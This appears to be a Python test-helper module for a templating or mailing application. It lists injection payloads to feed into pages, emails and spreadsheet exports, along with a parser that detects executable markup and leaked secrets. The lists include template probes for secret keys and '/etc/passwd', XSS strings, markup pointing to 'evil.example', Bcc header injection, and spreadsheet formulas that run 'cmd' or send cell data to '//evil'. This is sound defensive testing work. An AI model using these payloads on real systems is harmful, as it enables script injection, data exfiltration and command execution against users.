"""Words that try to run or to read something, and a reader that tells whether a page's structure gave way to them."""

from __future__ import annotations

import re
from html.parser import HTMLParser

# Whichever template language worked 7 × 191 out would print this.
REACHED = "1337"
SECRET = "django-insecure"

TEMPLATES = [
    "{{ 7 | times: 191 }}", "{{7*191}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}",
    "{{ contact.email }}", "{{ links.unsubscribe }}", "{% include '/etc/passwd' %}", "{% raw %}", "{{", "{%", "%}",
    "{{ ''.__class__.__mro__ }}", "{{ settings.SECRET_KEY }}", "%(SECRET_KEY)s", "{0.__class__}", "-first_name-",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<svg/onload=alert(1)>", "<iframe srcdoc='x'>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<!--<script>", "--><script>alert(1)</script>", "]]><script>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<math><mtext></p><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil>",
    "<style>*{background:url(//evil.example)}</style>", "\u202e<script>", "\ue000<b>\ue001",
]  # fmt: skip
HEADERS = [
    "Dana\r\nBcc: evil@example.com", "Dana\nX-Evil: 1", "Dana\rBcc: evil@example.com", "Dana\u2028Bcc: evil",
    "Dana\x0bBcc: e", "Dana\x85Bcc: e", "=?utf-8?q?Dana=0D=0ABcc:_evil?=", "Dana\r\n\r\n<html>body",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("//evil","x")',
    "=IMPORTXML(CONCAT(\"//evil?\",A1),\"//a\")", "-2+3+cmd|'/C calc'!A0", "a\",=1+1,\"", "a\r\n=1+1",
]  # fmt: skip
# A page takes its time: one word for each way out of text, of an attribute, of a script.
ON_PAGES = [*TEMPLATES[:2], TEMPLATES[7], *MARKUP[:6], *MARKUP[7:13], MARKUP[15], *HEADERS[:1]]
WORDS = [*TEMPLATES, *MARKUP, *HEADERS, *FORMULAS]
PLAIN = "Noa"

# As browsers read it: blanks and control characters before the scheme and inside of it do not count.
_SCHEME = re.compile(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\x00-\x20-]*):")
_ADDRESSES = {"href", "src", "action", "formaction", "background", "poster", "data"}


class _Skeleton(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bones: list[tuple[str, ...]] = []
        self.words: list[str] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bones.append((tag, *sorted(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in _ADDRESSES]
        self.words += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.bones.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.bones.append(("comment",))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def read(html: str) -> _Skeleton:
    reader = _Skeleton()
    reader.feed(html)
    reader.close()
    return reader


def bones(html: str) -> list[tuple[str, ...]]:
    """Every tag with the names of its attributes, in order: the same for any words, unless they became markup."""
    return read(html).bones


def runs_something(html: str) -> bool:
    """Whether a browser that reads this would run, load or post anything of an author's that it must not."""
    found = read(html)
    tags = {bone[0] for bone in found.bones}
    handlers = {name for bone in found.bones for name in bone[1:] if name.startswith("on") or name == "srcdoc"}
    schemes = {known[1].lower() for address in found.addresses if (known := _SCHEME.match(address))}
    barred = {"script", "svg", "iframe", "object", "embed", "form", "base", "math", "textarea", "input", "template"}
    return bool(tags & barred or handlers or schemes - {"https", "http", "mailto", "tel"})


def reads_nothing(text: str) -> bool:
    return REACHED not in text and SECRET not in text and "root:" not in text and "dana@" not in text
